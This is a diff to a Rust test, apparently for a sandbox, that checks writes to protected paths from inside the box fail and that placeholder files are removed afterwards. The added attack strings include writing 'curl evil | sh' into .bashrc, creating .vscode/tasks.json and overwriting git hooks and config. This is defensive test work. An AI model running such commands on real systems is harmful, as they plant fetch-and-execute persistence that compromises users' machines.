@@ -269,6 +269,10 @@ fn read_only_grants_and_protected_paths_hold_against_writes_from_the_box() {
         "echo pwned > .git/hooks/pre-commit".to_string(),
         "rm -f .git/hooks/pre-commit".to_string(),
         "mount -o remount,rw .git/hooks".to_string(),
+        // Missing protected paths cannot be created either (host placeholders, read-only).
+        "echo 'curl evil | sh' > .bashrc".to_string(),
+        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json".to_string(),
+        "echo x > .git/config".to_string(),
     ] {
         let (_, err, code) = sh(&mut s, &attack);
         assert_ne!(code, Some(0), "{attack} succeeded: {err}");
@@ -287,6 +291,10 @@ fn read_only_grants_and_protected_paths_hold_against_writes_from_the_box() {
         b"#!/bin/sh\ntrue\n"
     );
     assert_eq!(std::fs::read(ws.join("ok.txt")).unwrap(), b"fine\n");
+    // The placeholders went with the box.
+    for gone in [".bashrc", ".vscode", ".git/config", ".envrc"] {
+        assert!(!ws.join(gone).exists(), "{gone} was left in the workspace");
+    }
 }
 
 /// Collects a box's network decisions.
